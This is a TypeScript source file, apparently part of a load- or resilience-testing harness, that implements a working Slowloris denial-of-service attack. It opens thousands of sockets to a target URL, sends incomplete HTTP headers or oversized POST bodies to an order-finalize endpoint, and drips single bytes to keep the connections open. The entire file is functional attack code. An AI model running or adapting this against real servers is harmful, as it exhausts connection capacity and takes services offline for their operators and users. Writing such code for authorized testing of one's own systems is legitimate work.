import { connect, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import type { Attack } from './attack.ts';

const CONNECTIONS = 6000;
const OPENED_AT_ONCE = 200;
const DRIP_MS = 500;

export const attack: Attack = {
  name: 'Slowloris: connections send heads, and half of them bodies, one byte at a time',
  async run({ url, key, signal }) {
    const { hostname, port, host } = new URL(url);
    const counts = { opened: 0, ended: 0 };
    const sockets = new Set<Socket>();
    const open = (n: number): void => {
      const socket = connect(Number(port), hostname);
      const head = `POST /order/finalize HTTP/1.1\r\nhost: ${host}\r\ncontent-type: application/json\r\n`;
      socket.write(n % 2 === 0 ? head : `${head}id-token: ${key}\r\ncontent-length: 1000000\r\n\r\n[`);
      counts.opened += 1;
      sockets.add(socket);
      socket
        .on('error', () => {})
        .once('close', () => {
          sockets.delete(socket);
          counts.ended += signal.aborted ? 0 : 1;
        });
    };
    while (!signal.aborted) {
      for (let n = 0; n < OPENED_AT_ONCE && sockets.size < CONNECTIONS; n += 1) open(n);
      for (const socket of [...sockets].slice(0, OPENED_AT_ONCE)) socket.write('x');
      await delay(DRIP_MS);
    }
    for (const socket of sockets) socket.destroy();
    return counts;
  },
};
